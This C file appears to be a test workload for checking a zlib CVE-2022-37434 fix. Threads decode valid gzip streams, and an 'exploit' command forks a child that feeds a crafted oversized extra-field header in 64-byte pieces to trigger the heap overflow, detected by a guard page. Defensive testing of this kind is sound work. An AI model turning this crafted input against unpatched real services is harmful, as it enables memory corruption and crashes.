/*
 * Workload for the zlib CVE-2022-37434 example (README.md beside this file):
 * a long-running multi-threaded program that uses the zlib shared library the
 * way a server decoding uploads would, and checks every result.
 *
 *   workload [THREADS]        (default 3 threads)
 *
 * Each thread takes, in turn, one of a set of valid gzip streams (each with a
 * header extra field and a file name, made at start with deflateSetHeader),
 * inflates it through inflateGetHeader() feeding the input in small pieces of
 * pseudo-random size (so the header's extra field arrives over several
 * inflate() calls, the path of the CVE), and checks the output bytes, the
 * extra field and the name against what was compressed. A request arrives
 * every ~0.2 ms per thread (the thread sleeps between requests, as a server
 * waits for its next client).
 *
 * Commands on stdin, one per line, each answered with one line on stdout:
 *   counts   -> `counts ok=N failed=M`
 *   exploit  -> runs the crafted case in a forked child and reports it:
 *               `exploit overflow at=extra+OFF` (the write past the
 *               application's 16-byte extra buffer hit the guard page after it),
 *               `exploit crashed signal=N` (the child died another way), or
 *               `exploit safe rc=Z_STREAM_END extra_len=L kept=K data=ok`
 *   version  -> `version zlib=V`
 * Prints `ready pid=P threads=T streams=S zlib=V` first; exits at end of file.
 * The first few failed checks are described on stderr.
 *
 * The crafted case is only a gzip stream whose extra field (200 bytes) is
 * longer than the buffer the application offers (16 bytes) and reaches
 * inflate() in 64-byte pieces: zlib up to 1.2.12 computes `extra_max - len`
 * with len > extra_max and copies ~4 GiB past the buffer. It runs in a child
 * so that the workload being patched never crashes; the child's buffer ends
 * at a PROT_NONE page, so the first byte written past it faults right there.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

#define STREAMS 8
#define MAX_THREADS 16
#define EXPLOIT_EXTRA_LEN 200
#define EXPLOIT_EXTRA_MAX 16
#define EXPLOIT_CHUNK 64

/* One valid request: the plain bytes and their gzip encoding. */
struct stream {
  unsigned char *plain, *gz, *extra;
  size_t plain_len, gz_len;
  unsigned extra_len;
  char name[32];
};

static struct stream streams[STREAMS];
static atomic_ulong ok_count, failed_count;
static atomic_int failures_reported;

/* xorshift32: deterministic per thread, so a failure can be replayed. */
static uint32_t next_random(uint32_t *s) {
  uint32_t x = *s;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  return *s = x;
}

static void *must_malloc(size_t n) {
  void *p = malloc(n);
  if (!p) {
    fprintf(stderr, "workload: out of memory\n");
    exit(1);
  }
  return p;
}

/* gzip-encode `plain` with a header carrying `extra` and `name`. */
static unsigned char *gzip_with_header(const unsigned char *plain, size_t plain_len, unsigned char *extra,
                                       unsigned extra_len, char *name, size_t *gz_len) {
  z_stream z;
  memset(&z, 0, sizeof z);
  if (deflateInit2(&z, 6, Z_DEFLATED, 16 + 15, 8, Z_DEFAULT_STRATEGY) != Z_OK) return NULL;
  gz_header h;
  memset(&h, 0, sizeof h);
  h.extra = extra;
  h.extra_len = extra_len;
  h.name = (Bytef *)name;
  h.os = 3;
  if (deflateSetHeader(&z, &h) != Z_OK) return NULL;
  size_t cap = deflateBound(&z, plain_len) + extra_len + 64;
  unsigned char *out = must_malloc(cap);
  z.next_in = (Bytef *)plain;
  z.avail_in = (uInt)plain_len;
  z.next_out = out;
  z.avail_out = (uInt)cap;
  if (deflate(&z, Z_FINISH) != Z_STREAM_END) return NULL;
  *gz_len = cap - z.avail_out;
  deflateEnd(&z);
  return out;
}

static void make_streams(void) {
  uint32_t seed = 12345;
  for (int i = 0; i < STREAMS; i++) {
    struct stream *s = &streams[i];
    s->plain_len = 2000 + 700 * (size_t)i;
    s->plain = must_malloc(s->plain_len);
    /* Text-like bytes: compressible, with literals and matches. */
    for (size_t j = 0; j < s->plain_len; j++)
      s->plain[j] = (unsigned char)("abcdefgh ijklmnop\n"[next_random(&seed) % 18]);
    s->extra_len = 4 + 37 * (unsigned)i;
    s->extra = must_malloc(s->extra_len);
    for (unsigned j = 0; j < s->extra_len; j++) s->extra[j] = (unsigned char)next_random(&seed);
    snprintf(s->name, sizeof s->name, "upload-%d.txt", i);
    s->gz = gzip_with_header(s->plain, s->plain_len, s->extra, s->extra_len, s->name, &s->gz_len);
    if (!s->gz) {
      fprintf(stderr, "workload: deflate failed for stream %d\n", i);
      exit(1);
    }
  }
}

static void report_failure(int thread, int stream, const char *why) {
  atomic_fetch_add(&failed_count, 1);
  if (atomic_fetch_add(&failures_reported, 1) < 5)
    fprintf(stderr, "failed: thread %d stream %d: %s\n", thread, stream, why);
}

/* One request: inflate stream `i` in pieces and check everything it yields. */
static void serve(int thread, int i, uint32_t *seed, unsigned char *out, size_t out_cap) {
  struct stream *s = &streams[i];
  unsigned char extra[512];
  char name[64];
  gz_header h;
  memset(&h, 0, sizeof h);
  h.extra = extra;
  h.extra_max = sizeof extra; /* the application's buffer is large enough */
  h.name = (Bytef *)name;
  h.name_max = sizeof name;
  z_stream z;
  memset(&z, 0, sizeof z);
  if (inflateInit2(&z, 16 + 15) != Z_OK) return report_failure(thread, i, "inflateInit2");
  if (inflateGetHeader(&z, &h) != Z_OK) {
    inflateEnd(&z);
    return report_failure(thread, i, "inflateGetHeader");
  }
  z.next_out = out;
  z.avail_out = (uInt)out_cap;
  size_t fed = 0;
  int rc = Z_OK;
  while (rc == Z_OK) {
    size_t piece = 1 + next_random(seed) % 64;
    if (piece > s->gz_len - fed) piece = s->gz_len - fed;
    z.next_in = s->gz + fed;
    z.avail_in = (uInt)piece;
    rc = inflate(&z, Z_NO_FLUSH);
    fed += piece - z.avail_in;
    if (rc == Z_BUF_ERROR && fed < s->gz_len) rc = Z_OK; /* no progress on this piece: feed more */
  }
  size_t got = out_cap - z.avail_out;
  inflateEnd(&z);
  if (rc != Z_STREAM_END) return report_failure(thread, i, z.msg ? z.msg : "inflate did not end");
  if (got != s->plain_len || memcmp(out, s->plain, got) != 0) return report_failure(thread, i, "output differs");
  if (h.extra_len != s->extra_len || memcmp(extra, s->extra, s->extra_len) != 0)
    return report_failure(thread, i, "extra field differs");
  if (strcmp(name, s->name) != 0) return report_failure(thread, i, "name differs");
  atomic_fetch_add(&ok_count, 1);
}

static void *worker(void *arg) {
  int thread = (int)(intptr_t)arg;
  uint32_t seed = 0x9e3779b9u ^ (uint32_t)(thread + 1) * 2654435761u;
  size_t out_cap = streams[STREAMS - 1].plain_len + 16;
  unsigned char *out = must_malloc(out_cap);
  const struct timespec pause = {0, 200 * 1000};
  for (unsigned n = (unsigned)thread;; n++) {
    serve(thread, (int)(n % STREAMS), &seed, out, out_cap);
    nanosleep(&pause, NULL);
  }
  return NULL;
}

/* Where the child's extra buffer starts; the guard page starts at buf + 16. */
static unsigned char *exploit_buf;
static int exploit_pipe = -1;

static void on_fault(int sig, siginfo_t *si, void *ctx) {
  (void)ctx;
  char line[96];
  long off = (long)((unsigned char *)si->si_addr - exploit_buf);
  int n;
  if (off >= EXPLOIT_EXTRA_MAX && off < EXPLOIT_EXTRA_MAX + 4096)
    n = snprintf(line, sizeof line, "exploit overflow at=extra+%ld\n", off);
  else
    n = snprintf(line, sizeof line, "exploit crashed signal=%d\n", sig);
  if (n > 0) (void)!write(exploit_pipe, line, (size_t)n);
  _exit(3);
}

/* In the child: inflate the crafted stream with a 16-byte extra buffer. */
static void exploit_child(int fd) {
  exploit_pipe = fd;
  long page = sysconf(_SC_PAGESIZE);
  unsigned char *map = mmap(NULL, (size_t)page * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (map == MAP_FAILED || mprotect(map + page, (size_t)page, PROT_NONE) != 0) _exit(4);
  exploit_buf = map + page - EXPLOIT_EXTRA_MAX;
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_fault;
  sa.sa_flags = SA_SIGINFO;
  sigaction(SIGSEGV, &sa, NULL);
  sigaction(SIGBUS, &sa, NULL);

  unsigned char plain[] = "hello from the crafted stream";
  unsigned char extra[EXPLOIT_EXTRA_LEN];
  for (unsigned j = 0; j < sizeof extra; j++) extra[j] = (unsigned char)('A' + j % 26);
  char name[] = "crafted";
  size_t gz_len;
  unsigned char *gz = gzip_with_header(plain, sizeof plain, extra, sizeof extra, name, &gz_len);
  if (!gz) _exit(5);

  gz_header h;
  memset(&h, 0, sizeof h);
  h.extra = exploit_buf;
  h.extra_max = EXPLOIT_EXTRA_MAX;
  z_stream z;
  memset(&z, 0, sizeof z);
  if (inflateInit2(&z, 16 + 15) != Z_OK || inflateGetHeader(&z, &h) != Z_OK) _exit(6);
  unsigned char out[128];
  z.next_out = out;
  z.avail_out = sizeof out;
  size_t fed = 0;
  int rc = Z_OK;
  while (rc == Z_OK && fed < gz_len) {
    size_t piece = gz_len - fed < EXPLOIT_CHUNK ? gz_len - fed : EXPLOIT_CHUNK;
    z.next_in = gz + fed;
    z.avail_in = (uInt)piece;
    rc = inflate(&z, Z_NO_FLUSH);
    fed += piece - z.avail_in;
  }
  int data_ok = rc == Z_STREAM_END && sizeof out - z.avail_out == sizeof plain &&
                memcmp(out, plain, sizeof plain) == 0 && memcmp(exploit_buf, extra, EXPLOIT_EXTRA_MAX) == 0;
  char line[128];
  int n = snprintf(line, sizeof line, "exploit safe rc=%s extra_len=%u kept=%d data=%s\n",
                   rc == Z_STREAM_END ? "Z_STREAM_END" : "error", h.extra_len, EXPLOIT_EXTRA_MAX,
                   data_ok ? "ok" : "wrong");
  if (n > 0) (void)!write(fd, line, (size_t)n);
  _exit(0);
}

static void run_exploit(void) {
  int fds[2];
  if (pipe(fds) != 0) {
    printf("exploit error pipe\n");
    return;
  }
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    close(fds[0]);
    exploit_child(fds[1]);
  }
  close(fds[1]);
  char line[160];
  size_t len = 0;
  ssize_t n;
  while (len < sizeof line - 1 && (n = read(fds[0], line + len, sizeof line - 1 - len)) > 0) len += (size_t)n;
  close(fds[0]);
  line[len] = '\0';
  int status = 0;
  if (child < 0 || waitpid(child, &status, 0) != child) {
    printf("exploit error fork\n");
    return;
  }
  if (len > 0 && line[len - 1] == '\n')
    fputs(line, stdout);
  else if (WIFSIGNALED(status))
    printf("exploit crashed signal=%d\n", WTERMSIG(status));
  else
    printf("exploit error status=%d\n", WEXITSTATUS(status));
}

int main(int argc, char **argv) {
  int threads = argc > 1 ? atoi(argv[1]) : 3;
  if (threads < 1 || threads > MAX_THREADS) {
    fprintf(stderr, "usage: workload [THREADS 1..%d]\n", MAX_THREADS);
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  make_streams();
  for (int t = 0; t < threads; t++) {
    pthread_t tid;
    if (pthread_create(&tid, NULL, worker, (void *)(intptr_t)t) != 0) {
      fprintf(stderr, "workload: pthread_create failed\n");
      return 1;
    }
  }
  printf("ready pid=%d threads=%d streams=%d zlib=%s\n", getpid(), threads, STREAMS, zlibVersion());
  char cmd[64];
  while (fgets(cmd, sizeof cmd, stdin)) {
    cmd[strcspn(cmd, "\n")] = '\0';
    if (strcmp(cmd, "counts") == 0)
      printf("counts ok=%lu failed=%lu\n", atomic_load(&ok_count), atomic_load(&failed_count));
    else if (strcmp(cmd, "exploit") == 0)
      run_exploit();
    else if (strcmp(cmd, "version") == 0)
      printf("version zlib=%s\n", zlibVersion());
    else
      printf("error unknown command\n");
  }
  return 0;
}
